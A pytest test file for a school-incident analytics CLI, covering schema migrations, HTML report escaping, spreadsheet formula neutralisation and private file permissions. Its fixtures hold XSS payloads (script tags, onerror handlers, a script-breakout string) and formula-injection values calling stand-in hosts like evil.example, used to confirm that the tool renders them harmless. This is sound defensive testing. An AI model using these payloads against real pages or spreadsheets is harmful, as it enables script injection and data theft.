MIGRATION = "ALTER TABLE incidents ADD COLUMN reviewed_by VARCHAR; CREATE TABLE review_notes (note VARCHAR)"


def test_an_older_schema_is_migrated_by_the_next_load(
    baseline: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """This release is schema 2: pretend the next one is 3, and run the migration path on a version-2 warehouse."""
    warehouse = _copy(baseline, tmp_path)
    before = _contents(warehouse)
    monkeypatch.setattr(db, "SCHEMA_VERSION", 3)
    monkeypatch.setattr(db, "MIGRATIONS", {**db.MIGRATIONS, 2: MIGRATION})
    # Reading does not upgrade: it says how to.
    status, _, err, _ = _cli(capsys, "indicators", "--db", str(warehouse))
    assert status == 1 and "uses an older schema (2). Load any export once with `policy-analytics load FILE`" in err
    assert _contents(warehouse) == before
    small = tmp_path / "small.csv"
    small.write_text(INC + incident_row("S1"))
    status, out, err, _ = _cli(capsys, "load", str(small), "--db", str(warehouse))
    assert status == 0
    assert err == f"policy-analytics: upgraded the warehouse {warehouse} from schema 2 to 3.\n"
    assert "1 stored (1 new, 0 updated)" in out
    after = _contents(warehouse)
    assert ("schema_version", "3") in after["meta"]
    assert [row[:1] for row in after["incidents"]] == [("I0",), ("S1",)]
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        columns = {c for (c,) in con.execute("SELECT column_name FROM duckdb_columns() WHERE table_name = 'incidents'").fetchall()}
        assert "reviewed_by" in columns
    finally:
        con.close()
    # Now current: reading works and a later load says nothing about upgrading.
    assert _cli(capsys, "indicators", "--json", "--db", str(warehouse))[0] == 0
    status, _, err, _ = _cli(capsys, "load", str(small), "--db", str(warehouse))
    assert (status, err) == (0, "")


def test_a_failing_migration_leaves_the_warehouse_as_it_was(
    baseline: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    warehouse = _copy(baseline, tmp_path)
    before = _contents(warehouse)
    monkeypatch.setattr(db, "SCHEMA_VERSION", 4)
    monkeypatch.setattr(db, "MIGRATIONS", {**db.MIGRATIONS, 2: MIGRATION, 3: "ALTER TABLE no_such_table ADD COLUMN x INTEGER"})
    small = tmp_path / "small.csv"
    small.write_text(INC + incident_row("S1"))
    status, out, err, _ = _cli(capsys, "load", str(small), "--db", str(warehouse))
    assert (status, out) == (1, "")
    assert f"The warehouse {warehouse} could not be upgraded from schema 3 to 4 (" in err and "It is unchanged." in err
    _plain(err)
    assert _contents(warehouse) == before  # the first step was rolled back with the second


# --- what the tool writes: HTML reports, CSV for Excel, file permissions -------------------------------------

XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
       "<img src=x onerror=document.body.dataset.pwned=1>"]
XSS_PLATFORM = "<script>document.body.dataset.pwned=3</script>"
XSS_ORGANISATION = "</script><script>document.body.dataset.pwned=2</script>"


class _Elements(HTMLParser):
    """Every element and attribute in a page, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A termly report whose schools, platforms, organisation and descriptions are HTML and script."""
    folder = tmp_path_factory.mktemp("hostile")
    config = folder / "settings.toml"
    schools = ", ".join(f"'{s}'" for s in XSS)
    config.write_text(f"[organisation]\nname = '{XSS_ORGANISATION}'\nschools = [{schools}]\n", "utf-8")
    rows = []
    for n in range(9):
        school = XSS[n % 3]
        platform = XSS_PLATFORM if n % 2 else XSS[1]
        rows.append([f"H{n}", school, f"0{n + 1}/10/2025 10:00", platform, "bullying", "high" if n % 3 == 0 else "low",
                     "<b>ZQSECRET</b> =HYPERLINK(\"http://evil.example\")"])
    export = folder / "incidents.csv"
    with export.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["incident_id", "school", "reported_at", "platform", "category", "severity", "description"])
        writer.writerows(rows)
    warehouse = folder / "w.duckdb"
    common = ["--db", str(warehouse), "--config", str(config)]
    previous = os.umask(0o022)  # a usual umask: the files are private because the CLI makes them so
    try:
        assert cli.main(["load", str(export), *common]) == 0
        assert cli.main(["report", "termly", "--term", "2025-26-autumn", "--out", str(folder / "out"), *common]) == 0
        assert os.umask(0o022) == 0o022  # and the CLI gave the umask back
    finally:
        os.umask(previous)
    html = folder / "out" / "termly_2025-26-autumn_organisation.html"
    return {"html": html, "ipynb": html.with_suffix(".ipynb"), "warehouse": warehouse, "folder": folder}


def test_export_text_in_the_html_report_stays_text(hostile_report: dict[str, Path]) -> None:
    html = hostile_report["html"].read_text("utf-8")
    page = _Elements()
    page.feed(html)
    # no element came from the exports: no <img>, no event-handler attribute, no script but plotly's own
    assert not [t for t, _ in page.tags if t == "img"]
    assert not [(t, a) for t, attrs in page.tags for a in attrs if a.lower().startswith("on")]
    charts = [s for s in page.scripts if "* plotly.js v" not in s]  # the Plotly.newPlot calls, with their data
    assert charts and any(r"\u003cscript\u003ealert(1)" in s for s in charts)  # chart data: JSON, < as \u003c
    for script in charts:
        assert "<script" not in script.lower() and "<img" not in script.lower()
    # the raw markup appears nowhere; the school names show as text
    for raw in XSS + [XSS_ORGANISATION]:
        assert raw not in html
    for school in XSS:
        assert school.replace("<", "&lt;").replace(">", "&gt;") in html
    # the platform's own text and the descriptions are never shown at all (docs/hr/data-protection.md)
    assert "pwned=3" not in html and "ZQSECRET" not in html and "evil.example" not in html


def test_the_html_report_runs_no_script_from_the_exports_in_a_browser(hostile_report: dict[str, Path]) -> None:
    from test_render import CHROMIUM, run_offline_chromium

    if CHROMIUM is None:
        pytest.skip("no chromium on PATH (CI installs Debian's chromium)")
    dom, _ = run_offline_chromium(hostile_report["html"].as_uri())
    assert "main-svg" in dom  # the charts' scripts ran and drew
    assert "data-pwned" not in dom
    assert '<img src="x"' not in dom


def test_report_and_warehouse_files_are_private(hostile_report: dict[str, Path]) -> None:
    for key in ("html", "ipynb", "warehouse"):
        assert stat.S_IMODE(hostile_report[key].stat().st_mode) & 0o077 == 0, key
    assert stat.S_IMODE(hostile_report["html"].parent.stat().st_mode) & 0o077 == 0


@pytest.mark.parametrize(("value", "written"), [
    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("@SUM(A1:A3)", "'@SUM(A1:A3)"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain text", "plain text"), ("a=b", "a=b"), ("", ""), (None, None), (12, 12),
])
def test_excel_safe(value: object, written: object) -> None:
    assert cli.excel_safe(value) == written


def test_rejects_csv_neutralises_formulas(
    corpus: dict[str, Path], baseline: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    warehouse = _copy(baseline, tmp_path)
    assert cli.main(["load", str(corpus["formula-text.csv"]), "--db", str(warehouse)]) == 0
    out_csv = tmp_path / "rejects.csv"
    previous = os.umask(0o022)
    try:
        assert cli.main(["rejects", "--file", "formula-text.csv", "--csv", str(out_csv), "--db", str(warehouse)]) == 0
    finally:
        os.umask(previous)
    assert capsys.readouterr().out.endswith(f"3 rows written to {out_csv}\n")
    assert out_csv.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, as Excel expects
    assert stat.S_IMODE(out_csv.stat().st_mode) & 0o077 == 0
    with out_csv.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["file", "row", "column", "value", "reason"]
    assert [r[1:4] for r in rows[1:]] == [
        ["8", "category", "'=HYPERLINK(\"http://evil.example\",\"x\")"],
        ["9", "severity", "'@SUM(A1:A3)"],
        ["10", "shares", "'-1+2"],
    ]
    for r in rows[1:]:
        assert not any(cell.startswith(cli.FORMULA_STARTS) for cell in r)
    # JSON, for programs, keeps the values exactly as they were in the export
    assert cli.main(["rejects", "--file", "formula-text.csv", "--json", "--db", str(warehouse)]) == 0
    assert [r["value"] for r in json.loads(capsys.readouterr().out)] == [
        "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(A1:A3)", "-1+2"]


def test_the_cli_creates_a_new_warehouse_private_and_restores_the_umask(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export = tmp_path / "i.csv"
    export.write_text(INC + incident_row("I1"))
    warehouse = tmp_path / "new" / "w.duckdb"
    previous = os.umask(0o022)
    try:
        assert cli.main(["load", str(export), "--db", str(warehouse)]) == 0
        assert os.umask(0o022) == 0o022
    finally:
        os.umask(previous)
    assert stat.S_IMODE(warehouse.stat().st_mode) == 0o600
    assert stat.S_IMODE(warehouse.parent.stat().st_mode) == 0o700
